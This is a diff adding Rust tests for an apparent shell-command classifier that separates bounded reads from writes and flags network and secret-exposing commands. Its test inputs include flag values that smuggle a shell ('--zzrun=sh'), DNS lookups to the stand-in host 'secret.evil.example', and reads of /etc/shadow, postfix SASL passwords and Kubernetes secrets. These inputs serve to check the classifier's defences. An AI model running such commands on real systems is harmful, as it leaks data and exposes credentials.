@@ -114,6 +114,156 @@ fn a_flag_that_makes_a_command_a_read_is_not_turned_off_by_the_next_word() {
     );
 }
 
+/// A flag that prints or shows something is no simulation: `apt-get install --print-uris` changes what apt keeps.
+#[test]
+fn a_simulation_is_not_mixed_with_flags_that_only_print() {
+    // Each was looked at: these flags ask a question instead of doing something.
+    const QUESTIONS: &[&str] = &["modprobe", "depmod", "rsync"];
+    let simulates = |flag: &str| {
+        [
+            "dry-run",
+            "dryrun",
+            "simulate",
+            "no-act",
+            "just-print",
+            "noop",
+            "recon",
+        ]
+        .iter()
+        .any(|word| flag.trim_start_matches('-') == *word)
+    };
+    let prints = |flag: &str| {
+        ["print", "show", "list", "info", "display"]
+            .iter()
+            .any(|word| flag.strip_prefix("--").is_some_and(|flag| flag.starts_with(word)))
+    };
+    let mut simulations = 0;
+    for entry in all()
+        .flatten()
+        .filter(|entry| !QUESTIONS.contains(&entry.node.name.as_str()))
+    {
+        let mut found = Vec::new();
+        levels(&entry.node, &entry.node.name, &mut found);
+        for (path, node) in found {
+            let needs: Vec<String> = node.needs.iter().map(ToString::to_string).collect();
+            if !needs.iter().any(|flag| simulates(flag)) {
+                continue;
+            }
+            simulations += 1;
+            let wrong: Vec<&String> = needs.iter().filter(|flag| prints(flag)).collect();
+            assert!(wrong.is_empty(), "`{path}` reads with {wrong:?}");
+        }
+    }
+    assert!(simulations >= 8, "{simulations}");
+}
+
+/// Whether one name is another one with a version, a prefix or a suffix: `gsort`, `python3.9`, `nc.openbsd`, `zegrep`.
+fn is_variant(name: &str, of: &str) -> bool {
+    let plain = |name: &str| {
+        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
+            .to_owned()
+    };
+    let (name, of) = (plain(name), plain(of));
+    name.contains(&of) || of.contains(&name)
+}
+
+/// Programs that share an entry must agree on its flags: `ntpstat -m` asks, `ntptime -m` sets the clock. The list of entries
+/// that different programs share changes only on purpose: before a name is accepted, look up each flag for each program.
+#[test]
+fn programs_that_share_an_entry_were_compared() {
+    let mut shared: Vec<String> = Vec::new();
+    for entry in all().flatten() {
+        let first = &entry.names[0];
+        let node = &entry.node;
+        let flags = node.short.len() + node.long.len() + node.words.len();
+        let differs = entry.names.iter().any(|name| !is_variant(name, first));
+        if differs && flags > 0 && !(node.writes && node.modes.is_empty()) {
+            shared.push(first.clone());
+        }
+    }
+    shared.sort();
+    insta::assert_snapshot!("shared_entries", shared.join("\n"));
+}
+
+#[test]
+fn a_value_that_counts_is_a_number() {
+    for command in [
+        "nvidia-smi dmon -c PROHIBITED",
+        "ping -c x localhost",
+        "vmstat 1 x",
+        "tcpdump -c ./x -i lo",
+    ] {
+        assert_eq!(classify(command).intent, Intent::WriteOrUnknown, "{command}");
+    }
+    for command in ["nvidia-smi dmon -c 5", "ping -c 3 localhost", "journalctl -n 20"] {
+        assert!(classify(command).is_bounded_read(), "{command}");
+    }
+}
+
+/// An implementation that nobody read the manual of can have flags whose values it runs or writes to.
+#[test]
+fn a_flag_with_a_value_is_listed_where_a_program_has_several_implementations() {
+    let mut count = 0;
+    for entry in all().flatten().filter(|entry| entry.node.several) {
+        for name in &entry.names {
+            // These take no flags at all.
+            if matches!(
+                name.as_str(),
+                "echo" | "gecho" | "true" | "gtrue" | "false" | "gfalse" | ":" | "expr" | "gexpr"
+            ) {
+                continue;
+            }
+            count += 1;
+            for flag in ["--zzrun='tee x'", "--zzrun=sh", "--zzrun=\"$x\""] {
+                let command = format!("{name} {flag} /srv/x");
+                assert!(!classify(&command).is_bounded_read(), "{command}");
+            }
+        }
+    }
+    assert!(count > 60, "{count}");
+}
+
+#[test]
+fn what_leaves_the_machine_and_what_shows_secrets_is_told() {
+    for command in [
+        "pvesh get /nodes/n/scan/iscsi --portal 10.0.0.5",
+        "tailscale dns query secret.evil.example",
+        "tailscale netcheck",
+        "rabbitmq-diagnostics resolve_hostname secret.evil.example",
+        "exim -bt x@secret.evil.example",
+        "lpinfo -v",
+        "nmcli networking connectivity check",
+        "subscription-manager orgs",
+        "brew search bash",
+        "pkg search bash",
+        "nvm ls-remote",
+        "fwupdmgr get-updates",
+        "snap refresh --list",
+        "ceph orch upgrade ls",
+        "linkerd check",
+    ] {
+        let verdict = classify(command);
+        assert!(verdict.network, "{command}: {:?}", verdict.reasons);
+    }
+    for command in [
+        "postmap -s hash:/etc/postfix/sasl_passwd",
+        "postmap -q '[x]:587' hash:/etc/postfix/sasl_passwd",
+        "postmap -q x lmdb:/etc/postfix/sasl_passwd",
+        "kubectl get -f secret.yaml -o yaml",
+        "oc get -f secret.yaml -o json",
+        "cat file:/etc/shadow",
+        "certutil -L -d sql:/root/.pki/nssdb/key4.db",
+    ] {
+        assert!(classify(command).sensitive, "{command}");
+    }
+    for command in [
+        "postmap -q root hash:/etc/aliases",
+        "kubectl get -f /srv/app/pod.yaml",
+    ] {
+        assert!(!classify(command).sensitive, "{command}");
+    }
+}
+
 #[test]
 fn every_program_has_examples_that_must_be_allowed_and_refused() {
     let lacking: Vec<String> = all()
